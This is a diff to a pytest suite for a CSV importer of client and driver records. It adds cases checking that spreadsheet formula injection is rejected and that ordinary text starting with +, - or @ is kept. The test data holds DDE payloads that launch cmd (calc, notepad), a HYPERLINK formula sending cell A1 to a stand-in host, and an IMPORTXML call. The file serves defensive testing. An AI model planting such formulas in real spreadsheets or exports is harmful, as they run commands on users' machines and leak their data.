@@ -25,6 +25,13 @@ DRIVERS = "company,document_number,full_name,phone,license_expires_on,vehicle_pl
         ({"clients.csv": CLIENTS + f"{FA},9001,+cmd|' /C calc'!A0,Cali\n"}, "name"),
         ({"clients.csv": CLIENTS + f"{FA},9001,ACME,=1+1\n"}, "city"),
         ({"drivers.csv": DRIVERS + f"{FA},99887766,PEPE PÉREZ,=A1&B1,,\n"}, "phone"),
+        # behind an expression a sign starts (were stored): DDE, a function after an operator
+        ({"clients.csv": CLIENTS + f"{FA},9001,-2+3+cmd|' /C calc'!A0,Cali\n"}, "name"),
+        ({"clients.csv": CLIENTS + f"{FA},9001,+1+cmd|' /C calc'!A0,Cali\n"}, "name"),
+        ({"clients.csv": CLIENTS + f"{FA},9001,@A1 cmd|'/C notepad'!_xlbgnm.A1,Cali\n"}, "name"),
+        ({"clients.csv": CLIENTS + f'{FA},9001,"-1+HYPERLINK(""http://x/?d=""&A1,""ver"")",Cali\n'}, "name"),
+        ({"clients.csv": CLIENTS + f"{FA},9001,ACME,+A1&SUM(B1:B9)\n"}, "city"),
+        ({"drivers.csv": DRIVERS + f"{FA},99887766,PEPE PÉREZ,-0+IMPORTXML(A1),,\n"}, "phone"),
     ],
 )
 async def test_a_formula_in_a_text_cell_is_refused(fleet_conn, tmp_path, files, column):
@@ -38,14 +45,13 @@ async def test_a_formula_in_a_text_cell_is_refused(fleet_conn, tmp_path, files, 
 
 
 async def test_text_that_only_starts_like_a_formula_is_kept(fleet_conn, tmp_path):
-    body = CLIENTS + f"{FA},9001,- ACME (Centro),Cali\n{FA},9002,@tienda,Cali\n"
-    drivers = DRIVERS + f"{FA},99887766,PEPE PÉREZ,+57 300 123 4567,,\n"
+    body = CLIENTS + f"{FA},9001,- ACME (Centro),Cali\n{FA},9002,@tienda,Cali\n{FA},9003,- 2 x 3 | Sede 2!,Cali\n"
+    drivers = DRIVERS + f"{FA},99887766,PEPE PÉREZ,+57 300 123 4567,,\n{FA},99887767,LUZ ROJAS,+57 (300) 123-4567,,\n"
     await import_dir(fleet_conn, write(tmp_path, {"clients.csv": body, "drivers.csv": drivers}))
-    names = await fleet_conn.fetch("SELECT name FROM clients WHERE code IN ('9001', '9002') ORDER BY code")
-    assert [r["name"] for r in names] == ["- ACME (Centro)", "@tienda"]
-    assert (
-        await fleet_conn.fetchval("SELECT phone FROM drivers WHERE document_number = '99887766'") == "+57 300 123 4567"
-    )
+    names = await fleet_conn.fetch("SELECT name FROM clients WHERE code IN ('9001', '9002', '9003') ORDER BY code")
+    assert [r["name"] for r in names] == ["- ACME (Centro)", "@tienda", "- 2 x 3 | Sede 2!"]
+    phones = await fleet_conn.fetch("SELECT phone FROM drivers WHERE document_number LIKE '9988776_' ORDER BY 1")
+    assert [r["phone"] for r in phones] == ["+57 (300) 123-4567", "+57 300 123 4567"]
 
 
 @pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1e"])
